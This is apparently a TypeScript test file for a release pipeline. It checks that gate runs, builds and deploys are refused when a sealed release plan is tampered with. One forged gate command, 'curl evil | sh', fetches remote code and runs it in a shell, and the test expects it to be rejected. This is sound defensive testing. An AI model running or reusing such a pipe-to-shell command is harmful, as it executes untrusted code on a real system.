/** What is refused before a gate is asked or an image is built. */
import { beforeAll, describe, expect, test } from 'vitest';
import { hashPlan, withHash } from '../../../pipeline/hash-plan.js';
import type { ReleasePlan } from '../../../pipeline/plan.js';
import type { Activities } from '../../../workflows/activity-contract.js';
import { givenArtifacts, givenImage } from '../../support/given.js';
import { givenPolicyStore } from '../../support/policies.js';
import {
  evidenceOf,
  GATE,
  gateInput,
  givenSealedRelease,
  throughVouching,
  type SealedRelease,
} from '../../support/sealed.js';
import { useVouchingWorker } from '../../support/vouching-worker.js';

const { keys, begins, refusal } = useVouchingWorker();
let release: SealedRelease;

beforeAll(async () => {
  release = await givenSealedRelease(keys.ours);
});

describe('a gate', () => {
  const input = () => gateInput(release.plan, release.environment, release.artifacts);
  const ask = (change: Partial<Parameters<Activities['runGate']>[0]>) => ({ ...input(), ...change });

  test('is asked as the sealed plan says', async () => {
    expect(await begins('runGate', input())).toBe(true);
  });

  test.each<[string, () => unknown, RegExp]>([
    ['another command', () => ask({ gate: { ...GATE, command: 'curl evil | sh' } }), /no such gate/],
    [
      'no seal',
      () => {
        const { seal: _, ...rest } = input();
        return rest;
      },
      /no genuine seal/,
    ],
    [
      'another repository',
      () => ask({ plan: { ...input().plan, repositoryUrl: '/srv/evil.git' } }),
      /of another commit/,
    ],
    [
      'another commit',
      () => ask({ plan: { ...input().plan, commit: { ...input().plan.commit, sha: 'c'.repeat(40) } } }),
      /of another commit/,
    ],
    [
      'another digest',
      () => ask({ plan: { ...input().plan, artifacts: givenArtifacts('evil') } }),
      /no worker vouches/,
    ],
    [
      'fewer environments, so that nothing is live',
      () => ask({ plan: { ...input().plan, environments: [] } }),
      /asked for no environment, the sealed plan is for prod/,
    ],
    [
      'no word of its environments',
      () => {
        const { environments: _, ...subject } = input().plan;
        return ask({ plan: subject });
      },
      /asked for no environment/,
    ],
    [
      'an artifact left out',
      () => ask({ plan: { ...input().plan, artifacts: [] } }),
      /is for app, not for none/,
    ],
  ])('is not asked with %s', async (_what, forge, reason) => {
    expect(await refusal('runGate', forge())).toMatch(reason);
  });
});

describe('a build', () => {
  test.each<[string, () => unknown, RegExp]>([
    [
      'a plan without seal',
      () => {
        const { seal: _, ...plan } = release.plan;
        return { plan };
      },
      /no seal/,
    ],
    [
      'another registry',
      () => ({ plan: { ...release.plan, registry: { server: 'evil', username: 'x', password: 'env:X' } } }),
      /changed after/,
    ],
    [
      'another environment inside',
      () => ({ plan: { ...release.plan, environments: [{ ...release.environment, url: 'http://evil' }] } }),
      /changed after/,
    ],
  ])('is not begun with %s', async (_what, forge, reason) => {
    expect(await refusal('buildArtifacts', forge())).toMatch(reason);
  });

  const sealedWith = async (change: Partial<ReleasePlan>): Promise<ReleasePlan> => {
    const { planHash: _, seal: __, ...rest } = release.plan;
    return await throughVouching(keys.ours, 'resolvePlan', {} as never, () =>
      withHash({ ...rest, ...change }),
    );
  };

  test('is not begun for a push that goes to no environment, which has no gates', async () => {
    const plan = await sealedWith({ environments: [], gates: [] });
    expect(await refusal('buildArtifacts', { plan })).toMatch(/for no environment/);
  });

  test('is not begun with a login that the policy of this moment does not list', async () => {
    const policy = givenPolicyStore(
      'pipelines: {shop: {repositories: [/srv/shop.git], environments: {prod: {hosts: [deploy@web-1, deploy@web-2], secrets: ["env:PROD_*"]}}}}',
    );
    const registry = { server: 'cr.example.com', username: 'x', password: 'env:OTHER' };
    const plan = await sealedWith({ registry });
    expect(await refusal('buildArtifacts', { plan }, policy)).toMatch(/secret env:OTHER is not allowed/);
    const allowed = await sealedWith({ registry: { ...registry, password: 'env:PROD_REGISTRY' } });
    expect(await begins('buildArtifacts', { plan: allowed }, policy)).toBe(true);
  });

  test.each<[string, Partial<ReleasePlan>]>([
    ['another file of the same commit', { file: 'evil.yaml' }],
    ['other gates', { gates: [GATE] }],
    ['another Dockerfile', { artifacts: [givenImage({ dockerfile: 'evil' })] }],
  ])('for %s counts for that one only', async (_what, change) => {
    const plan = await sealedWith(change);
    const { artifacts } = release;
    const [environment] = plan.environments;
    const seal = plan.seal === undefined ? {} : { seal: plan.seal };
    const asked = { ...gateInput(plan, release.environment, []), ...seal };
    const evidence =
      plan.gates.length === 0
        ? []
        : [await throughVouching(keys.ours, 'runGate', asked, () => evidenceOf('pass'))];
    const built = await throughVouching(keys.ours, 'buildArtifacts', { plan, evidence }, () => ({
      artifacts: givenArtifacts('v1.0.0'),
      adopted: true,
    }));
    const stolen = { ...release.target, artifacts: built.artifacts };
    expect(await refusal('deploy', { target: stolen, prior: [] })).toMatch(/no worker vouches/);
    const other = { ...release.target, plan: environment, artifacts };
    expect(await refusal('deploy', { target: other, prior: [] })).toMatch(/no worker vouches/);
  });

  test('waits for the release’s own gates', async () => {
    const plan = await sealedWith({ gates: [GATE] });
    expect(await refusal('buildArtifacts', { plan, evidence: release.evidence })).toMatch(
      /nobody vouches that gate ci/,
    );
    const seal = plan.seal === undefined ? {} : { seal: plan.seal };
    const asked = { ...gateInput(plan, release.environment, []), ...seal };
    const item = await throughVouching(keys.ours, 'runGate', asked, () => evidenceOf('pass'));
    expect(await begins('buildArtifacts', { plan, evidence: [item] })).toBe(true);
  });
});

test('the hash of a plan does not depend on its seals', () => {
  const { seal: _, ...bare } = release.plan;
  const environments = bare.environments.map(({ seal: __, ...plan }) => plan);
  expect(hashPlan({ ...bare, environments })).toBe(release.plan.planHash);
});
